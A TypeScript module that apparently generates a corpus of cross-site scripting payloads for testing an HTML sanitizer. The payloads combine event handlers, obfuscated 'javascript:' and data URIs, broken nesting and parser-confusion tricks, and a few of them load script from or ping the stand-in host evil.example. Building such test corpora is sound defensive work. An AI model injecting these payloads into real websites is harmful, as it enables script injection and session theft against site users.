const code = 'alert(document.domain)'
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerrawupdate',
  'onbeforeinput',
]
const carriers = [
  'img src=x',
  'svg',
  'body',
  'p',
  'a href=/x',
  'details open',
  'video src=x',
  'input autofocus',
  'b',
  'math',
  'xss',
  'marquee',
]
const withHandlers = handlers.flatMap((handler) =>
  carriers.flatMap((carrier) => [
    `<${carrier} ${handler}=${code}>`,
    `<${carrier.toUpperCase()}/${handler}="${code}">x`,
    `<${carrier}\n${handler}\t=\n'${code}'//`,
  ]),
)
const schemes = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java&#10;script:${code}`,
  `&#x6A;avascript:${code}`,
  `&#0000106avascript:${code}`,
  `\u0001javascript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/x.js`,
  `\\\\evil.example`,
  `blob:https://evil.example/1`,
  `feed:javascript:${code}`,
]
const holders = [
  'a href',
  'img src',
  'iframe src',
  'form action',
  'button formaction',
  'object data',
  'embed src',
  'link rel=stylesheet href',
  'base href',
  'video poster',
  'svg><a xlink:href',
  'svg><use href',
  'meta http-equiv=refresh content',
]
const withSchemes = schemes.flatMap((scheme) => holders.map((holder) => `<${holder}="${scheme}">x</a>`))
const elements = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'template',
  'noscript',
  'textarea',
  'title',
  'xmp',
  'plaintext',
  'noembed',
  'svg',
  'math',
]
const broken = elements.flatMap((name) => [
  `<${name}>${code}</${name}>`,
  `<${name} src=//evil.example/x.js></${name}>`,
  `<<${name}>${code}//<</${name}>`,
  `<scr<${name}>ipt>${code}</scr</${name}>ipt>`,
  `<${name}><img src=x onerror=${code}></${name}>`,
  `<p title="</${name}><img src=x onerror=${code}>">`,
])
const odd = [
  `<!--><img src=x onerror=${code}>-->`,
  `<!--<img src="--><img src=x onerror=${code}>">`,
  `<![CDATA[<img src=x onerror=${code}>]]>`,
  `<?xml version="1.0"?><x onerror=${code}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<a href="https://x.example" onclick=${code} style="position:fixed;inset:0">x</a>`,
  `<p style="background:url(javascript:${code})">x</p>`,
  `<p style="width:expression(${code})" class="modal" id="app">x</p>`,
  `<img src="/x" srcset="javascript:${code} 1x" sizes=1>`,
  `<a href="https://x.example" ping="https://evil.example" target=_self rel=opener>x</a>`,
  `\u003cscript\u003e${code}\u003c/script\u003e`,
  `<script\u0000>${code}</script>`,
  `<a href="https://x.example&quot; onmouseover=&quot;${code}">x</a>`,
]

/** Elements that run or load, handlers, addresses with hidden schemes, broken nesting, foreign content and comments, in several spellings. */
export function listAttacks(): string[] {
  return [...withHandlers, ...withSchemes, ...broken, ...odd]
}
